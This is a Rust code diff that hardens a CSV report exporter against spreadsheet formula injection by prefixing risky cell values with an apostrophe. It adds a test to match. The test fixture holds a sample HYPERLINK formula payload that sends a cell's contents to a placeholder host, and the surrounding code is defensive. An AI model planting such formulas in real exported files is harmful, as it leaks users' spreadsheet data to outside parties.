@@ -227,7 +227,7 @@ pub(crate) fn csv_text(report: &pb::Report) -> Result<String> {
     writer.write_record(&header)?;
     let all = total_line(report);
     for line in sliced(report).iter().chain(std::iter::once(&all)) {
-        let mut record: Vec<String> = line.key.clone();
+        let mut record: Vec<String> = line.key.iter().map(|k| inert(k)).collect();
         record.extend(
             values(line)
                 .iter()
@@ -239,6 +239,18 @@ pub(crate) fn csv_text(report: &pb::Report) -> Result<String> {
     match String::from_utf8(bytes) {
         Ok(text) => Ok(text),
         Err(_) => bail!("the report is not UTF-8"),
+    }
+}
+
+/// A slice's value as a spreadsheet shows it, not runs it: groups are named by
+/// plugins and custom channels by integrators, and a cell starting with `=`,
+/// `+`, `-`, `@` (or a tab or carriage return before one) is a formula to Excel
+/// and its kin, so such a value gets a leading `'` (OWASP's advice).
+fn inert(value: &str) -> String {
+    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{value}")
+    } else {
+        value.to_owned()
     }
 }
 
@@ -383,5 +395,32 @@ mod tests {
             1_796_083_200
         );
         assert!(day_start("12/01/2026").is_err());
+    }
+
+    /// A group a plugin named like a formula is written so that a spreadsheet
+    /// shows it as text.
+    #[test]
+    fn slice_values_that_look_like_formulas_stay_text() {
+        let line = |key: &str| pb::ReportLine {
+            key: vec![key.to_owned()],
+            tickets: 1,
+            ..Default::default()
+        };
+        let report = pb::Report {
+            by: vec!["group".to_owned()],
+            lines: vec![
+                line("=HYPERLINK(\"http://x/?\"&A1,\"vip\")"),
+                line("@SUM(1)"),
+                line("billing"),
+            ],
+            ..Default::default()
+        };
+        let text = csv_text(&report).expect("csv");
+        let cells: Vec<String> = csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .map(|row| row.expect("a row")[0].to_owned())
+            .collect();
+        assert_eq!(cells[0], "'=HYPERLINK(\"http://x/?\"&A1,\"vip\")", "{text}");
+        assert_eq!(&cells[1..], ["'@SUM(1)", "billing", "(all)"], "{text}");
     }
 }
